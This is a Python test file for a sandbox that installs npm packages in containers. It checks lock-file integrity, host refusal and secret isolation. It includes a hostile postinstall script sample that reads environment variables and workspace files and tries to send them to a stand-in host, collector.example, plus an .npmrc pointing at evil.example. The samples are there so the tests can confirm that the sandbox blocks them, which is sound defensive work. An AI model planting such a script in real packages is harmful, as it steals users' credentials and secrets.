"""JavaScript packages, by real npm in real containers."""

import json
from typing import Any

import pytest

from domain.files import FileTree
from sandbox import images
from sandbox.dependencies.installed import Installed
from sandbox.dependencies.package_json import LOCKS
from sandbox.egress.contact import Outcome
from tests.sandbox.dependencies.conftest import Phase
from tests.sandbox.dependencies.registry import Registry
from tests.sandbox.dependencies.test_python import CANARY
from tests.sandbox.dependencies.trees import named

NOSY = """
const fs = require('fs');
const seen = {environment: process.env, files: fs.readdirSync('/workspace', {recursive: true})};
require('net').connect(80, '198.51.100.1').on('error', (error) => {
  seen.straight = error.code;
  const wanted = {host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'collector.example:443'};
  const asked = require('http').request(wanted);
  asked.on('connect', (answer) => {
    seen.collector = answer.statusCode;
    fs.writeFileSync('seen.json', JSON.stringify(seen));
    process.exit();
  });
  asked.end();
});
"""


@pytest.fixture(autouse=True)
async def _image(phase: Phase) -> None:
    if not await phase.engine.exists(images.tag("typescript")):
        pytest.fail(f"This test needs the image {images.tag('typescript')}. Run: make images")


def package(more: dict[str, Any] | None = None, **manifest: Any) -> FileTree:
    """A workspace with a package.json, and ``more`` files."""
    return named({"package.json": json.dumps(manifest), **(more or {})})


async def install(phase: Phase, tree: FileTree) -> Installed:
    """What comes of installing it."""
    return await phase.install(tree, language="typescript")


async def test_a_package_of_this_machines_registry_is_found_from_the_workspace_and_its_program_runs(
    machine: Phase, token: str
) -> None:
    tree = package(name=f"x{token}", dependencies={"semver": "^7.0.0"}, scripts={"postinstall": "exit 1"})

    installed = await install(machine, tree)
    seen = await machine.run(
        installed,
        "node -p \"require('semver').valid('1.2.3')\" && /node_modules/.bin/semver 4.5.6 && ls -A /node_modules",
    )
    again = await install(machine, tree)

    assert seen.stdout.decode().split()[:2] == ["1.2.3", "4.5.6"]
    assert installed.hosts(Outcome.PASSED)
    assert not installed.hosts(Outcome.REFUSED)
    assert again.cached


async def test_a_lock_file_decides_what_is_installed(phase: Phase, own: Registry, token: str) -> None:
    own.add_npm("tiny", {"bin": {"tiny-program": "run.js"}}, {"run.js": "#!/usr/bin/env node\nconsole.log('ran')\n"})
    manifest: dict[str, Any] = {"name": f"x{token}", "version": "1.0.0", "dependencies": {"tiny": "*"}}
    first = await install(phase, package(**manifest))
    kept = (await phase.run(first, "cat /node_modules/.package-lock.json")).stdout.decode()
    lock = json.loads(kept)
    lock["packages"] = {"": manifest} | lock["packages"]

    locked = await install(phase, package({LOCKS[1]: json.dumps(lock)}, **manifest))
    ran = await phase.run(locked, "/node_modules/.bin/tiny-program")
    lock["packages"]["node_modules/tiny"]["integrity"] = "sha512-" + "A" * 86 + "=="
    broken = await phase.failure(package({LOCKS[1]: json.dumps(lock)}, **manifest), language="typescript")

    assert ran.stdout == b"ran\n"
    assert locked.tag != first.tag
    assert broken.reason == "client"
    assert "EINTEGRITY" in str(broken)


async def test_scripts_of_packages_run_see_no_secret_and_reach_nothing_but_the_registry(
    phase: Phase, own: Registry, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("OPENAI_API_KEY", "SOUNDSTAGE_CANARY", "NPM_CONFIG_CANARY", "NPM_TOKEN"):
        monkeypatch.setenv(name, CANARY)
    own.add_npm("nosy", {"scripts": {"postinstall": "node spy.js"}}, {"spy.js": NOSY})
    tree = package(
        {"secret.js": CANARY, ".npmrc": f"//x/:_authToken={CANARY}"}, name=f"x{token}", dependencies={"nosy": "1"}
    )

    installed = await install(phase, tree)
    seen = (await phase.run(installed, "cat /node_modules/nosy/seen.json")).stdout.decode()
    found = json.loads(seen)

    assert CANARY not in seen
    assert not [file for file in found["files"] if file.endswith((".npmrc", "secret.js"))]
    assert found["straight"] == "ENETUNREACH"
    assert found["collector"] == 403
    assert installed.hosts(Outcome.REFUSED) == ("collector.example:443",)
    assert installed.hosts(Outcome.PASSED) == (f"127.0.0.1:{own.port}",)


async def test_a_workspaces_own_npmrc_widens_nothing(phase: Phase, own: Registry, token: str) -> None:
    own.add_npm("tiny", {}, {})
    tree = package({".npmrc": "registry=https://evil.example/"}, name=f"x{token}", dependencies={"tiny": "1"})

    installed = await install(phase, tree)

    assert installed.hosts(Outcome.PASSED) == (f"127.0.0.1:{own.port}",)
    assert installed.hosts(Outcome.REFUSED) == ()


async def test_a_tarball_at_a_host_that_is_not_allowed_is_refused_by_name(
    phase: Phase, own: Registry, token: str
) -> None:
    own.add_npm("far", {}, {})
    own.answers["/far"] = own.answers["/far"].replace(own.url.encode(), b"http://files.example")

    error = await phase.failure(package(name=f"x{token}", dependencies={"far": "1"}), language="typescript")

    assert error.reason == "refused_host"
    assert "files.example:80" in str(error)


async def test_a_package_that_is_not_there_is_said_with_npms_own_words(phase: Phase, own: Registry, token: str) -> None:
    error = await phase.failure(package(name=f"x{token}", dependencies={"nowhere": "1"}), language="typescript")

    assert error.reason == "client"
    assert "404" in str(error)


async def test_a_package_json_without_dependencies_makes_an_empty_layer(
    phase: Phase, own: Registry, token: str
) -> None:
    installed = await install(phase, package(name=f"x{token}"))

    assert (installed.files, own.asked) == (0, [])
    assert (await phase.run(installed, "true")).ok


async def test_wheels_are_no_help_for_npm_and_that_is_said(phase: Phase, tmp_path: object) -> None:
    error = await phase.failure(package(name="x"), language="typescript", folder=tmp_path)

    assert error.reason == "configuration"
    assert "npm" in str(error)
